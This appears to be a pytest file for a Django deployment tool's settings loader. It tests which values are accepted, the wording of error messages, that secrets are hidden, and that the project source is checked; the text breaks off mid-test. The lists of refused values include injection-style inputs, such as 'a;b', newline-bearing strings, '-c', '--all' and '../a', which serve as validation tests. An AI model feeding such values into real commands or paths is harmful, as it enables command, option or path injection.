"""The settings: what is taken, what is refused and in which words."""

import os
import re
import runpy
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from stack.project.release import release_of
from stack.secrets import from_environment, from_file
from stack.settings import Settings, SettingsError, load, load_all, table
from stack.settings.against_source import READ, source_problems, what_is_read
from stack.settings.table import with_table

ROOT = Path(__file__).parents[2]


def loaded(**data: object) -> Settings:
    return load({"source": ".", **data}, "web1")


def problems(**data: object) -> list[str]:
    """The problems of a host with such data, each without the host's name."""
    with pytest.raises(SettingsError) as caught:
        loaded(**data)
    return [problem.text for problem in caught.value.problems]


# What is taken


def test_the_defaults_are_the_articles() -> None:
    settings = loaded()
    assert settings.project == "fooproject"
    assert settings.wsgi == "fooproject.wsgi"
    assert settings.server_name == ("fooproject.se",)
    assert (settings.user_group, settings.user_groups) == ("users", ("sudo", "nogroup"))
    assert (settings.workers, settings.timeout_seconds) == (3, 60)
    assert settings.bind == "127.0.0.1:8000"
    assert settings.client_max_body_size == "50M"


def test_the_wsgi_module_follows_the_project() -> None:
    assert loaded(project="shop").wsgi == "shop.wsgi"


TAKEN: list[tuple[str, object, object]] = [
    ("server_name", "example.com", ("example.com",)),
    ("server_name", ["a.example", "*.b.example"], ("a.example", "*.b.example")),
    *(
        ("server_name", name, (name,))
        for name in ("_", ".example.com", "www.example.*", "192.0.2.1", "[2001:db8::1]", "xn--a.se")
    ),
    *(("bind", bind, bind) for bind in ("0.0.0.0:8080", "[::1]:8000", "unix:/run/x/g.sock")),
    # As those write them with whose words they are compared.
    ("server_name", "[2001:DB8::0001]", ("[2001:db8::1]",)),
    ("redirect_names", ["[2001:DB8:0::1]"], ("[2001:db8::1]",)),
    ("bind", "[0:0::0001]:8000", "[::1]:8000"),
    ("bind", "[::ffff:7f00:1]:8000", "[::ffff:127.0.0.1]:8000"),
    ("address", "2001:DB8::0001", "2001:db8::1"),
    *(
        (name, [typed], (written,))
        for name in ("maintenance_allow", "trusted_proxies")
        for typed, written in (
            ("192.0.2.7", "192.0.2.7"),
            ("2001:db8::1", "2001:db8::1"),
            ("2001:DB8::0001", "2001:db8::1"),
            ("2001:db8:0:1:1:1:1:1", "2001:db8:0:1:1:1:1:1"),
            ("::ffff:192.0.2.7", "::ffff:192.0.2.7"),
            ("::FFFF:C000:207", "::ffff:192.0.2.7"),
        )
    ),
    *(
        ("trusted_proxies", [typed], (written,))
        for typed, written in (
            ("10.0.0.0/8", "10.0.0.0/8"),
            ("10.0.0.5/32", "10.0.0.5/32"),
            ("2001:0DB8::/032", "2001:db8::/32"),
        )
    ),
    *(("client_max_body_size", size, size) for size in ("50M", "1g", "512k", "0", "1024")),
    ("src", "./app/", "app"),
    ("src", "app/site", "app/site"),
    ("shared", ["media/", "./data"], ("media", "data")),
    ("python", "/usr/bin/python3.12", "/usr/bin/python3.12"),
    ("python", "//usr/./bin//python3.12", "/usr/bin/python3.12"),
    ("python", "python3.12", "python3.12"),
    ("bind", "unix:/run//x/./g.sock", "unix:/run/x/g.sock"),
    ("disposable", ["./cache", "logs/./*.log"], ("cache", "logs/*.log")),
    ("wsgi", "shop.wsgi:application", "shop.wsgi:application"),
    ("program", "Shop.web-1_a", "Shop.web-1_a"),
    ("project", "_a-b", None),
    ("source", "git@example.com:shop.git", "git@example.com:shop.git"),
    ("source", "ssh://git@example.com/shop.git", "ssh://git@example.com/shop.git"),
    ("revision", "HEAD~2", "HEAD~2"),
    ("static_url", "/assets/built/", "/assets/built/"),
    ("media_root", "var/uploads/", "var/uploads"),
    ("media_root", "", ""),
    ("media_url", "/files/", "/files/"),
    ("health_path", "/health/?full=1", "/health/?full=1"),
    ("migrate", "each", "each"),
    ("extra_packages", ["libpq-dev", "g++"], ("libpq-dev", "g++")),
    ("extras", ["postgres", "Cache_redis.2"], ("postgres", "Cache_redis.2")),
    ("groups", ["server"], ("server",)),
    ("user_groups", [], ()),
    ("keep_releases", 1, 1),
]


@pytest.mark.parametrize(("name", "value", "held"), TAKEN)
def test_a_good_value_is_held(name: str, value: object, held: object) -> None:
    settings = loaded(**{"wsgi": "shop.wsgi", name: value})
    assert getattr(settings, name) == (value if held is None else held)


def test_settings_cannot_be_changed() -> None:
    settings = loaded(env={"A": "1"})
    with pytest.raises(ValueError, match="frozen"):
        settings.workers = 4  # type: ignore[misc]
    with pytest.raises(TypeError):
        settings.env["A"] = settings.env["A"]  # type: ignore[index]


def test_names_of_pyinfras_own_are_passed_over() -> None:
    def helper() -> None: ...

    loaded(
        _sudo=True,
        ssh_user="admin",
        ssh_port=2222,
        docker_identifier="x",
        chroot_directory="/x",
        fake_delay=0,
        os=os,
        Path=Path,
        helper=helper,
    )


# What is refused

NUMBER = "expected a whole number of at least 1"
SERVED_BELOW = (
    "expected a path with / at both ends, below / and without a part that begins with a dot, "
    'such as "/static/"'
)
HOST = "expected a host name, such as example.com or *.example.com"
BIND = 'expected ADDRESS:PORT, such as 127.0.0.1:8000 or [::1]:8000, or "unix:/absolute/path"'
SIZE = 'expected text as Nginx reads sizes: "50M", "1g", "512k", "0"'
USER = "expected a user name: up to 32 of a-z, 0-9, _ and -, the first no digit and no -"
GROUP = USER.replace("user", "group")
PROGRAM = "expected a name of letters, digits, _, . and -, the first a letter or digit"
RELATIVE = "expected a relative path of letters, digits and _ . @ + -, without .."
BELOW = "expected a path below src of letters, digits and _ . @ + -, without .."
SOUGHT = f"{RELATIVE}, which is looked for in src and above it"
PYTHON = (
    "expected a command, such as python3.12, an absolute path, or a version, as text in quotes "
    """("3.12"; on the command line --data 'python="3.12"')"""
)
NETWORKS = "an IP address or a network, such as 10.0.0.5 or 10.0.0.0/24"
URL_PATH = "expected the path of a URL: / first, no spaces, no quotes"
WSGI = "expected a dotted module path, such as fooproject.wsgi, or module:callable"
PACKAGE = "expected the name of a Debian package, such as libpq-dev, without a version"
EXTRA = "expected a name of letters, digits and . _ -, such as postgres"
REVISION = (
    "expected a branch, tag or commit, as text in quotes "
    """("1234567"; on the command line --data 'revision="1234567"')"""
)
SOURCE = "expected the path or URL of a git repository, or a folder"

REFUSED: list[tuple[str, object, str]] = [
    *((n, 0, NUMBER) for n in ("workers", "timeout_seconds", "keep_releases")),
    *(("workers", value, NUMBER) for value in (True, -1, 1.5, None)),
    ("workers", "3", NUMBER),
    *(
        ("project", name, USER)
        for name in ("", "a b", "Foo", "1a", "-a", "a.b", "a;b", "a{", "a%", "a\nb", "a/..", "é")
    ),
    ("project", "a" * 33, USER),
    *(
        ("project", name, "is a user of the system; expected a user name of the project's own")
        for name in ("root", "www-data", "nobody", "postgres")
    ),
    *(
        ("project", name, "is a group of the system; expected a user name of the project's own")
        for name in ("shadow", "disk", "video", "docker")
    ),
    *((n, 10_000_001, "expected at most 10000000") for n in ("workers", "timeout_seconds")),
    ("project", "replaced", "is a name of the system's in /var/log or /etc; expected another one"),
    *(
        ("trusted_proxies", [network], f"expected {NETWORKS}")
        for network in ("10.0.0.0/255.255.255.0", "fe80::1%eth0", "10.0.0.0/0.0.0.255")
    ),
    ("project", "logs", "~/logs is in use in the home; expected another user name"),
    *(("program", name, PROGRAM) for name in ("", "a b", "-a", "a:b", "a]", "a%", "../a", "a\n")),
    ("program", "all", "means every program to supervisorctl; expected another name"),
    *(("user_group", name, GROUP) for name in ("", "a b", "Users", "-a", "a,b")),
    ("user_groups", "sudo", "expected a list of group names"),
    *(
        ("server_name", name, HOST)
        for name in ("", "a b", "a;b", "a{", "-a.se", "a..b", "a.se.", "*a.se", "a.*.se", "a_b.se")
    ),
    *(("server_name", name, HOST) for name in ("*..a.se", "..a.se", "*.a.se.*", "*.*")),
    *(("server_name", name, HOST) for name in ("256.1.1.1", "[::1", "::1", "*", ".", "a.se\n")),
    ("server_name", "~^www", "is a regular expression; expected a host name"),
    ("server_name", "å.se", "is not ASCII; expected the name in punycode (xn--…)"),
    ("server_name", [], "expected one host name or a list of them"),
    *(
        ("bind", bind, BIND)
        for bind in ("8000", ":8000", "localhost:8000", "127.0.0.1:0", "127.0.0.1:65536", "::1:80")
    ),
    *(("bind", bind, BIND) for bind in ("unix:run/a", "unix:~/a", "unix:/a b", "unix:/a/../b")),
    *(("bind", bind, BIND) for bind in ("127.0.0.1:08000", "127.0.0.1:80\n", 8000, "unix:")),
    ("bind", "0.0.0.0:80", "port 80 is Nginx's; expected another one"),
    ("bind", "unix:/" + "a" * 107, "expected a socket's path of at most 107 bytes"),
    *(
        ("client_max_body_size", s, SIZE)
        for s in ("50MB", "50 M", "-1", "1.5G", "", "M", 50, "1\n")
    ),
    *(
        ("static_url", path, SERVED_BELOW)
        for path in ("", "/", "static/", "/static", "//", "/a b/", "/../", "/.git/", "https://x/")
    ),
    *(("health_path", p, URL_PATH) for p in ("", "health", "/a b", "/a\n", "/'", '/"', "/é", "/{")),
    *(
        ("src", p, RELATIVE)
        for p in ("", "/app", "~/app", "../app", "a/../../b", "-a", "a b", "a;")
    ),
    *(("media_root", p, BELOW) for p in (".", "/media", "../media")),
    ("commands", ["x"], "expected a dict of steps and lists of commands"),
    *(("requirements", p, SOUGHT) for p in (".", "/r.txt", "../r.txt", "a/-r", "%r")),
    ("shared", "media", "expected a list of paths relative to src"),
    ("shared", ["media", "media/"], "expected every path once"),
    ("shared", ["media", "media/a"], "media/a lies in media, which is shared already"),
    *(
        ("python", p, PYTHON)
        for p in (3.12, "", "bin/python", "~/python", "-c", "python 3", "/a/../b")
    ),
    *(("wsgi", m, WSGI) for m in ("", "a-b.wsgi", "a..b", "a.b:", "a/b.py", ".a", "a.b:c()")),
    ("migrate", "never", 'expected "once", "each" or "off"'),
    ("migrate", True, 'expected "once", "each" or "off"'),
    ("collectstatic", 1, "expected True or False"),
    ("collectstatic", "no", "expected True or False"),
    ("extra_packages", "libpq-dev", "expected a list of Debian packages"),
    *((name, "a", f"expected a list of names of {name}") for name in ("extras", "groups")),
    *(("groups", [name], EXTRA) for name in ("", "a b", "-a", "a[b]", "a\n", "--all-groups")),
    ("source", "", SOURCE),
    ("source", "-x", SOURCE),
    ("source", Path("/x"), SOURCE),
    *(
        ("revision", value, REVISION)
        for value in ("", "--all", 1234567, 1.1, float("12e4567"), "a\nb")
    ),
]


@pytest.mark.parametrize(("name", "value", "reason"), REFUSED)
def test_a_bad_value_is_refused_in_one_line(name: str, value: object, reason: str) -> None:
    (line,) = problems(**{name: value})
    assert line.removeprefix(name).removeprefix("[0]").startswith(" = ")
    assert line.endswith(f": {reason}")
    assert line.isprintable()


@pytest.mark.parametrize("name", Settings.model_fields)
def test_every_setting_says_what_it_expects(name: str) -> None:
    """In words of this project's, and not of pydantic's."""
    (line,) = problems(**{name: 1.5})
    assert line.startswith(name)
    assert "expected " in line


@pytest.mark.parametrize(
    ("name", "value", "line"),
    [
        ("workers", 0, f"workers = 0: {NUMBER}"),
        ("workers", "3", f'workers = "3": {NUMBER}'),
        ("server_name", "a b", f'server_name = "a b": {HOST}'),
        ("server_name", ["a.se", "a b"], f'server_name[1] = "a b": {HOST}'),
        ("shared", ["/srv"], f'shared[0] = "/srv": {BELOW}'),
        ("user_groups", ["sudo", ""], f'user_groups[1] = "": {GROUP}'),
        ("extra_packages", ["a=1"], f'extra_packages[0] = "a=1": {PACKAGE}'),
        (
            "programs",
            {"worker": {"command": "sleep 9", "stop_secs": 5}},
            'programs["worker"]: stop_secs: no such key',
        ),
        ("programs", {"worker": {}}, 'programs["worker"]: command: is missing'),
        (
            "programs",
            {"worker": 3},
            'programs["worker"] = 3: expected a command as text, or '
            '{"command": …, "stop_seconds": 60}',
        ),
        (
            "programs",
            {"worker": ["celery", "worker"]},
            "programs[\"worker\"] = ['celery', 'worker']: expected a command as text, or "
            '{"command": …, "stop_seconds": 60}',
        ),
        (
            "programs",
            {"worker": {"command": "true", "stop_seconds": 0}},
            f'programs["worker"]["stop_seconds"] = 0: {NUMBER}',
        ),
        ("programs", {"a b": "sleep 9"}, f'programs["a b"]: {PROGRAM}'),
        (
            "programs",
            {"releases": "sleep 9"},
            'programs["releases"]: releases.log is a log of the deployment\'s own; '
            "expected another name",
        ),
        (
            "schedules",
            {"x": "manage.py check"},
            'schedules["x"] = "manage.py check": expected {"command": …, "when": "daily"}',
        ),
        ("extra_packages", ["nginx-"], f'extra_packages[0] = "nginx-": {PACKAGE}'),
        (
            "workrs",
            3,
            "workrs = 3: no such setting; did you mean workers? Prefix names of your own with _, "
            "for example _workrs",
        ),
        (
            "here",
            "/srv",
            "here: no such setting; did you mean shared? Prefix names of your own with _, "
            "for example _here",
        ),
        (
            "mine",
            1,
            "mine = 1: no such setting; prefix names of your own with _, for example _mine",
        ),
        ("sudo", True, "sudo = True: no such setting; did you mean _sudo?"),
        ("sudo_user", "adm", "sudo_user: no such setting; did you mean _sudo_user?"),
        ("ssh_host", "10.0.0.1", "ssh_host: no such setting; did you mean ssh_hostname?"),
        ("ssh_prot", 22, "ssh_prot = 22: no such setting; did you mean ssh_port?"),
        (
            "project",
            "a-b",
            f'wsgi = "a-b.wsgi": {WSGI} (derived from project; set wsgi)',
        ),
    ],
)
def test_a_problem_says_where_it_is_and_what_was_expected(
    name: str, value: object, line: str
) -> None:
    assert problems(**{name: value}) == [line]


SECRETS = [name for name, one in Settings.model_fields.items() if one.annotation is SecretStr]


@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize(
    "value",
    [from_environment("NONE"), from_file("/none"), lambda: "none"],
    ids=["from_environment", "from_file", "lambda"],
)
def test_a_misspelled_name_is_told_whatever_has_its_value(
    name: str, value: Callable[[], str]
) -> None:
    wrong = name[:-2] + name[-1]
    [told] = problems(**{wrong: value})
    assert told.startswith(f"{wrong}: no such setting; did you mean {name}?")


def test_a_name_with_an_underscore_before_it_is_ones_own() -> None:
    (own,) = re.findall(r"begins with `_`: `(.+?)`", (ROOT / "docs/settings.md").read_text())
    names: dict[str, object] = {}
    exec(own, {}, names)  # noqa: S102
    assert load({"source": ".", **names}, "web1").source == "."
    bare = {name.lstrip("_"): value for name, value in names.items()}
    with pytest.raises(SettingsError, match="no such setting"):
        load({"source": ".", **bare}, "web1")


def test_a_function_of_a_group_data_file_is_its_own() -> None:
    def read(name: str) -> str:
        return name

    helpers = {"shout": lambda word: word.upper(), "all": lambda *a, **k: a, "by": lambda *, x: x}
    assert loaded(read=read, Path=Path, **helpers) == loaded()


@pytest.mark.parametrize(
    ("when", "its"),
    [
        ("0 3 * * *", "*-*-* 03:00:00"),
        ("*/5 * * * *", "*-*-* *:0/5:00"),
        ("30 4 * * 1-5", "Mon..Fri *-*-* 04:30:00"),
        # To cron a week may begin with Sunday, and end with it.
        ("0 3 * * 0-4", "Mon,Tue,Wed,Thu,Sun *-*-* 03:00:00"),
        ("0 3 * * sun-thu", "Mon,Tue,Wed,Thu,Sun *-*-* 03:00:00"),
        ("0 3 * * 5-7", "Fri..Sun *-*-* 03:00:00"),
        ("0 3 * * 6,0", "Sat,Sun *-*-* 03:00:00"),
        ("0 3 * * 0-7", "*-*-* 03:00:00"),
        ("0 3 * * 5-1", ""),
        # What cron refuses systemd refuses too.
        ("60 3 * * *", ""),
        ("0 24 * * *", ""),
        ("0 3 0 * *", ""),
        ("0 3 * 13 *", ""),
        ("*/0 * * * *", ""),
        ("0 5-1 * * *", ""),
        ("0 0,12 1 */2 *", "*-1/2-01 00,12:00:00"),
        ("15 */6 */10 * *", "*-*-1/10 0/6:15:00"),
        ("@daily", "daily"),
        ("@reboot", ""),
        ("0 3 1 * 1", ""),
        ("0 3 L * *", ""),
    ],
)
def test_a_time_of_crons_comes_with_systemds(when: str, its: str) -> None:
    (line,) = problems(schedules={"x": {"command": "true", "when": when}})
    told = f'"{its}", ' if its else ""
    start = f'schedules["x"]["when"] = "{when}": is cron syntax; expected {told}when it runs, as'
    assert line.startswith(start)
    if its:
        loaded(schedules={"x": {"command": "true", "when": its}})


@pytest.mark.parametrize("name", ["maintenance_page", "unavailable_page", "nginx_server"])
@pytest.mark.parametrize("ending", ["html", "htm", "conf"])
def test_the_name_of_a_file_is_not_what_is_in_it(name: str, ending: str) -> None:
    file, of_nginx = f"pages/away.{ending}", name == "nginx_server"
    if (ending == "conf") != of_nginx:
        loaded(**{name: file})
        return
    (line,) = problems(**{name: file})
    what = "lines of Nginx's" if of_nginx else "its HTML"
    assert line == f'{name}: is the name of a file; expected {what}: from_file("{file}")'
    text = "gzip off;" if of_nginx else "Away. See you.html"
    loaded(**{name: text})


def test_all_problems_of_a_host_are_told_at_once() -> None:
    with pytest.raises(SettingsError) as caught:
        load({"workers": 0, "project": "a-b", "bind": 1, "env": {"1": "x"}, "x": 1}, "web1")
    first, *lines = str(caught.value).splitlines()
    assert first == "6 problems in the settings, nothing was changed:"
    assert [line.split(": ")[0] for line in lines] == ["  web1"] * 6
    names = ["source", "env", "wsgi", "bind", "workers", "x"]
    assert [problem.setting for problem in caught.value.problems] == names


def test_a_missing_source_is_told() -> None:
    with pytest.raises(SettingsError, match=r"\n  web1: source: is missing; expected the Django"):
        load({}, "web1")


def test_one_problem_is_not_counted_as_several() -> None:
    with pytest.raises(SettingsError) as caught:
        load({"source": ".", "workers": 0}, "web1")
    assert str(caught.value) == (
        f"1 problem in the settings, nothing was changed:\n  web1: workers = 0: {NUMBER}"
    )


# Secrets


@given(st.text().filter(lambda text: "\0" not in text))
def test_any_text_arrives_unchanged_in_env_and_is_never_printed(text: str) -> None:
    secret = f"<{text}>"
    settings = loaded(env={"KEY": secret, "CALLED": lambda: secret})
    assert settings.env["KEY"].get_secret_value() == secret
    assert settings.env["CALLED"].get_secret_value() == secret
    for printed in (repr(settings), str(settings), repr(settings.env)):
        assert secret not in printed
        assert repr(secret)[1:-1] not in printed


def test_a_whole_number_in_env_becomes_text() -> None:
    assert loaded(env={"PORT": 25}).env["PORT"].get_secret_value() == "25"


def failing() -> str:
    return str(int("s3cret"))


MISPLACED: list[dict[str, Any]] = [
    {"env": "s3cret"},
    {"env": ["s3cret"]},
    {"env": {"KEY": ["s3cret"]}},
    {"env": {"KEY": b"s3cret"}},
    {"env": {"KEY": "s3cret\0"}},
    {"env": {"KEY": "s3cret\udc80"}},
    {"env": {"1KEY": "s3cret"}},
    {"env": {"PATH": "s3cret"}},
    {"env": {"KEY": failing}},
    {"env": {"KEY": lambda: ["s3cret"]}},
    {"SECRET_KEY": "s3cret"},
    {"ssh_pasword": "s3cret"},
    {"source": "https://me:s3cret@example.com/x"},
]


@pytest.mark.parametrize("data", MISPLACED)
def test_a_secret_is_in_no_message(data: dict[str, Any]) -> None:
    with pytest.raises(SettingsError) as caught:
        loaded(**data)
    assert "s3cret" not in str(caught.value)
    assert "s3cret" not in repr(caught.value)
    assert caught.value.__context__ is None, "a traceback would show what the message does not"


def failing_line() -> int:
    return failing.__code__.co_firstlineno + 1


@pytest.mark.parametrize(
    ("env", "line"),
    [
        (
            {"KEY": from_environment("NOT_SET_AT_ALL")},
            'env["KEY"]: the environment variable NOT_SET_AT_ALL is not set on this machine',
        ),
        (
            {"KEY": failing},
            'env["KEY"]: the function for it failed: ValueError '
            f"({__file__}, line {failing_line()})",
        ),
        (
            {"KEY": True},
            'env["KEY"]: is a bool; expected text, a whole number, or a function without '
            "arguments that returns one",
        ),
        (
            {"A-B": "x"},
            'env["A-B"]: expected a name of letters, digits and _, not beginning with a digit',
        ),
        *(
            (
                {"GUNICORN_CMD_ARGS": f"--max-requests 100 {option}"},
                f"env: GUNICORN_CMD_ARGS: {why}",
            )
            for option, why in {
                "--bind 0.0.0.0:80": "--bind is the setting bind",
                "-b0.0.0.0:80": "--bind is the setting bind",
                "--timeou=5": "--timeout is the setting timeout_seconds",
                "-D": "--daemon would take Gunicorn away from Supervisor; leave that option out",
                "--name 'x": "has a quote that is not closed; Gunicorn would not start",
            }.items()
        ),
        ({"HOME": "x"}, 'env["HOME"]: is set by the deployment; expected another name'),
        ({"RELEASE_ID": "x"}, 'env["RELEASE_ID"]: is set by the deployment; expected another name'),
        ({"A": "\0"}, 'env["A"]: holds a NUL character, which no environment can hold'),
    ],
)
def test_a_problem_in_env_names_the_variable(env: Mapping[str, object], line: str) -> None:
    assert problems(env=env) == [line]


def test_a_setting_that_looks_like_an_environment_variable_is_sent_to_env() -> None:
    (line,) = problems(SECRET_KEY="x")
    assert line == 'SECRET_KEY: no such setting; did you mean env = {"SECRET_KEY": …}?'


# All hosts together


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "fooproject").mkdir()
    for file in ("manage.py", "requirements.txt", "fooproject/wsgi.py"):
        (tmp_path / file).write_text("")
    return tmp_path


def refusal(hosts: Mapping[str, Mapping[str, object]]) -> list[str]:
    with pytest.raises(SettingsError) as caught:
        load_all(hosts)
    return [line.strip() for line in str(caught.value).splitlines()[1:]]


def test_every_host_gets_its_settings(project: Path) -> None:
    settings = load_all({f"web{n}": {"source": str(project), "workers": n} for n in (1, 2)})
    assert {host: its.workers for host, its in settings.items()} == {"web1": 1, "web2": 2}


def test_what_several_hosts_share_is_told_once(project: Path) -> None:
    data: dict[str, object] = {"source": str(project), "workers": 0}
    hosts = {"web1": {**data, "bind": "x"}, "web2": {**data, "bind": "x"}, "web3": data}
    assert refusal(hosts) == [
        f'web1, web2: bind = "x": {BIND}',
        f"all hosts: workers = 0: {NUMBER}",
    ]


def test_a_mistake_is_told_once_whoever_finds_it(project: Path) -> None:
    data = {"source": str(project), "tls": "files", "tls_key": 1, "server_name": "a.se"}
    told = refusal({"web1": {**data, "tls_certificate": from_file("/nowhere/a.pem")}})
    assert [line.partition(":")[2].split(":")[0].strip() for line in told] == [
        "tls_certificate",
        "tls_key",
    ]


def test_the_only_host_is_named() -> None:
    assert refusal({"web1": {"source": "/"}})[0].startswith("web1: ")


def test_settings_and_source_are_checked_at_once(project: Path) -> None:
    (project / "requirements.txt").write_text("-e .\n")
    (project / "fooproject/wsgi.py").unlink()
    lines = refusal({"web1": {"source": str(project), "workers": 0}})
    assert lines == [
        f"web1: workers = 0: {NUMBER}",
        'web1: requirements = "requirements.txt": requirements.txt: -e .: is editable, and a '
        "release never changes; expected the same without -e",
        'web1: wsgi = "fooproject.wsgi": there is no fooproject/wsgi.py in src of the source',
    ]


def test_an_app_is_looked_for_where_python_does(project: Path) -> None:
    (project / "lib").mkdir()
    (project / "fooproject").rename(project / "lib" / "fooproject")
    data = {"source": str(project)}
    assert refusal({"web1": data}) == [
        'web1: wsgi = "fooproject.wsgi": there is no fooproject/wsgi.py in src of the source; '
        'to have Python look in lib, set env["PYTHONPATH"] = "lib"'
    ]
    hosts = {
        name: {**data, "env": {"PYTHONPATH": path}}
        for name, path in {"web1": "more:lib", "web2": "more"}.items()
    }
    [line] = refusal(hosts)
    assert line == (
        'web2: wsgi = "fooproject.wsgi": there is no fooproject/wsgi.py in src of the source; '
        'to have Python look in lib, add to env["PYTHONPATH"] "lib"'
    )


@pytest.mark.parametrize("setting", ["wsgi", "asgi"])
def test_a_path_to_the_app_as_django_has_it_is_told_as_it_is_written_here(
    project: Path, setting: str
) -> None:
    for written, meant in {
        "fooproject.wsgi.application": "fooproject.wsgi",
        "fooproject.wsgi.app": "fooproject.wsgi:app",
    }.items():
        assert refusal({"web1": {"source": str(project), setting: written}}) == [
            f'web1: {setting} = "{written}": there is no {written.replace(".", "/")}.py in src of '
            f'the source; expected "{meant}"'
        ]


@pytest.mark.parametrize("name", ["Shop", "my.shop", "s" * 70, ""])
def test_a_wrong_project_is_one_line_and_none_for_what_its_name_makes(
    project: Path, name: str
) -> None:
    (project / "fooproject").rename(project / "shop")
    [line] = refusal({"web1": {"source": str(project), "project": name}})
    assert line.startswith("web1: project = ")
    lines = refusal({"web1": {"source": str(project), "project": name, "wsgi": "none.wsgi"}})
    assert len(lines) == 2, "what is written is checked"


def test_an_extra_that_the_project_does_not_have_is_told(project: Path) -> None:
    (project / "pyproject.toml").write_text(
        '[project]\nname = "x"\n[project.optional-dependencies]\npostgres = ["psycopg"]\n'
    )
    data: dict[str, object] = {"source": str(project), "requirements": "pyproject.toml"}
    assert refusal({"web1": {**data, "extras": ["pg"]}, "web2": {**data, "groups": ["prod"]}}) == [
        "web1: extras = ['pg']: pyproject.toml: has no extra pg; it has postgres",
        "web2: groups = ['prod']: pyproject.toml: has no group prod; it has no groups",
    ]


def without(file: str) -> Callable[[Path], None]:
    return lambda project: (project / file).unlink()


@pytest.mark.parametrize(
    ("folders", "hint"),
    [
        ([], ""),
        (["backend"], '; did you mean src = "backend"?'),
        (["b/site", "a"], '; did you mean src = "a" or "b/site"?'),
        (["a", "b", 'c"'], '; did you mean src = "a", "b" or "c\\""?'),
        (["a", "b", "c", "d"], ""),
    ],
)
def test_folders_of_the_source_that_have_a_manage_py_are_named_where_they_are_few(
    project: Path, folders: list[str], hint: str
) -> None:
    (project / "manage.py").rename(project / "not_manage.py")
    for folder in folders:
        (project / folder).mkdir(parents=True)
        (project / folder / "manage.py").touch()
    line = 'web1: src = ".": has no manage.py; expected the folder that holds manage.py'
    assert refusal({"web1": {"source": str(project)}}) == [line + hint]


def test_the_top_of_the_source_is_named_too(project: Path) -> None:
    [line] = refusal({"web1": {"source": str(project), "src": "app"}})
    assert line.endswith('; did you mean src = "."?')


@pytest.mark.parametrize(
    ("change", "data", "line"),
    [
        (
            without("manage.py"),
            {},
            'src = ".": has no manage.py; expected the folder that holds manage.py',
        ),
        (
            without("manage.py"),
            {"src": "app"},
            'src = "app": is not in the source; expected the folder that holds manage.py',
        ),
        (
            without("requirements.txt"),
            {},
            'requirements = "requirements.txt": there is no requirements.txt in . or above it; '
            "make one by pip freeze > requirements.txt, and commit it or name it in files",
        ),
        (
            without("requirements.txt"),
            {"source": "/nowhere"},
            'source = "/nowhere": does not exist; expected a git repository or a folder',
        ),
    ],
)
def test_what_the_source_lacks_is_told(
    project: Path, change: Callable[[Path], None], data: dict[str, object], line: str
) -> None:
    change(project)
    assert refusal({"web1": {"source": str(project), **data}}) == [f"web1: {line}"]


def test_what_the_source_lacks_may_come_with_files(project: Path) -> None:
    (project / "requirements.txt").unlink()
    (project / "fooproject/wsgi.py").unlink()
    files = {"requirements.txt": "-r more/base.txt", "more/base.txt": "django==5.2.1"}
    files["fooproject/wsgi.py"] = "application = ..."
    [settings] = load_all({"web1": {"source": str(project), "files": files}}).values()
    requirements = release_of(settings).requirements
    assert requirements.text == "-r more/base.txt\ngunicorn\n"
    assert requirements.files == {"more/base.txt": b"django==5.2.1\n"}


BEAT = "celery -A shop beat"
KEPT = f"{BEAT} --schedule celerybeat/schedule"
ITS_SCHEDULER = "CELERY_BEAT_SCHEDULER = 'django_celery_beat.schedulers:DatabaseScheduler'"


@pytest.mark.parametrize(
    ("command", "data", "text", "is_told"),
    [
        (BEAT, {}, "", True),
        ("python -m celery -A shop worker -B", {}, "", True),
        (BEAT, {"shared": ["media"], "disposable": ["logs"]}, "", True),
        (KEPT, {"shared": ["celerybeat"]}, "", False),
        *((f"{BEAT} {option}", {}, "", False) for option in ("-s /tmp/x", "-Sdjango", "-S x")),
        (f"{BEAT} --scheduler=django", {}, "", False),
        (BEAT, {"disposable": ["celerybeat-schedule*"]}, "", False),
        (BEAT, {"shared": ["celerybeat-schedule.db"]}, "", False),
        (BEAT, {}, ITS_SCHEDULER, False),
        (BEAT, {}, "app.conf.beat_schedule_filename = '/var/lib/x'", False),
        (BEAT, {}, "CELERY_BEAT_SCHEDULE = {}", True),
        ("celery -A shop worker", {}, "", False),
        ("celery -A beat worker", {}, "", False),
        ("heart beat", {}, "", False),
    ],
)
def test_a_beat_that_forgets_with_each_release_is_told(
    project: Path, command: str, data: dict[str, object], text: str, is_told: bool
) -> None:
    (project / "fooproject" / "celery.py").write_text(text)
    programs = {"beat": {"command": command, "hosts": "once"}}
    its = {"source": str(project), "programs": programs, **data}
    if not is_told:
        load_all({"web1": its})
        return
    (line,) = refusal({"web1": its, "web2": {**its, "migrate": "each", "ssh_hostname": "x"}})
    assert line.startswith('all hosts: programs["beat"]: beat records what it sent in ')
    assert f'"{command} --schedule celerybeat/schedule"' in line
    assert ('shared = ["media", "celerybeat"]' in line) == ("shared" in data)


def test_a_module_that_nobody_has_written_says_nothing_of_beat(project: Path) -> None:
    (project / "fooproject" / "a_celery.py").write_bytes(bytes((16 << 20) + 1))
    its = {"source": str(project), "programs": {"beat": {"command": BEAT, "hosts": "once"}}}
    (line,) = refusal({"web1": its})
    assert "beat records what it sent in" in line
    (project / "fooproject" / "celery.py").write_text(ITS_SCHEDULER)
    load_all({"web1": its})


def test_requirements_that_are_too_large_hide_no_other_problem(project: Path) -> None:
    (project / "requirements.txt").write_bytes(bytes((16 << 20) + 1))
    told = refusal({"web1": {"source": str(project), "wsgi": "nowhere.wsgi"}})
    assert len(told) == 2
    assert any("requirements.txt has more than 16 MB" in line for line in told)
    assert any("there is no nowhere/wsgi.py" in line for line in told)


class NotingEnv(dict[str, object]):
    """Names without values, but for one that is asked for by `get`, and noted."""

    def __init__(self, its: Mapping[str, object], read: set[str]) -> None:
        super().__init__(dict.fromkeys(its))
        self.its, self.read = its, read

    def get(self, name: str, default: object = None) -> object:
        self.read.add(f"env.{name}")
        return self.its.get(name, default)


class Noting:
    """Settings that note what is read of them."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.read: set[str] = set()

    def __getattr__(self, name: str) -> object:
        self.read.add(name)
        its = getattr(self.settings, name)
        return NotingEnv(its, self.read) if name == "env" else its


def test_hosts_share_a_check_of_their_source_by_all_that_it_reads(project: Path) -> None:
    (project / "requirements.txt").write_text("https://${NAME}@example.com/shop.whl\n")
    noting = Noting(
        loaded(
            source=str(project),
            files={"more.txt": "text"},
            build_env=["HOME"],
